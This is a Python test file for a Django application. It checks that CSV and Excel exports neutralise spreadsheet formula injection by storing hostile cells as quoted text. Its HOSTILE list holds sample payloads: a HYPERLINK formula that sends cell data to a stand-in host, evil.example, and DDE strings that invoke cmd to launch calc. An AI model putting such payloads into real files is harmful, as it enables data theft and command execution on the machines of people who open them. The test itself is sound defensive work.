"""CSV and Excel exports never carry a live formula (OWASP "CSV injection", issue 16): a cell
starting with =, +, -, @, tab or CR (or a full-width ＝＋－＠) is written as text."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
from django.core.management import call_command
from django.urls import reverse

from tomoni.directory.models import District, Staff
from tomoni.lib.csvio import FORMULA_STARTS

from ..conftest import BrowserClient
from .conftest import FY, City

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _name_districts_hostile() -> None:
    """A master-data name typed by an admin (or imported) reaches the 地区 tables."""
    for district, name in zip(District.objects.order_by("order", "code"), HOSTILE, strict=False):
        District.objects.filter(pk=district.pk).update(name=name)


def _live(value: object) -> bool:
    """Would a spreadsheet run this cell? (A text cell starting with a formula character.)"""
    return isinstance(value, str) and value[:1] in FORMULA_STARTS and value not in {"-"}


def test_csv_and_excel_downloads_neutralise_formulas(
    city: City, personas: dict[str, Staff], as_user: Callable[..., BrowserClient]
) -> None:
    _name_districts_hostile()
    client = as_user(personas["coordinator"])
    # CSV, both encodings: read back, each hostile name is there with a leading ', and no
    # cell a spreadsheet would run is left.
    for encoding in ("utf-8-sig", "cp932"):
        data = client.get(reverse("stats:export", args=["csv"]), {"fy": FY, "encoding": encoding})
        assert data.status_code == 200
        cells = [c for row in csv.reader(io.StringIO(data.content.decode(encoding))) for c in row]
        for name in HOSTILE:
            assert "'" + name in cells, name
        assert not [c for c in cells if _live(c) and not c.lstrip("-").isdigit()]
    # Excel: the names are kept as typed, stored as text with Excel's quote prefix, and the
    # sheet holds no formula at all.
    response = client.get(reverse("stats:export", args=["xlsx"]), {"fy": FY})
    content = response.content
    book = openpyxl.load_workbook(io.BytesIO(content))
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                # XML reads a stored CR back as LF.
                value = cell.value.replace("\n", "\r") if isinstance(cell.value, str) else None
                if value in HOSTILE:
                    found[value] = (cell.data_type, cell.quotePrefix)
    assert found == dict.fromkeys(HOSTILE, ("s", True))
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in package.read(n) for n in sheets)


def test_report_command_files_are_neutralised_too(city: City, tmp_path: Path) -> None:
    """`tomoni report` writes the same files through the same helpers."""
    _name_districts_hostile()
    call_command("report", "--fy", str(FY), "--format", "csv", "--output", str(tmp_path / "r.csv"))
    text = (tmp_path / "r.csv").read_bytes().decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + HOSTILE[0] in cells
    call_command(
        "report", "--fy", str(FY), "--format", "xlsx", "--output", str(tmp_path / "r.xlsx")
    )
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx")["実績"]
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == HOSTILE[0])
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
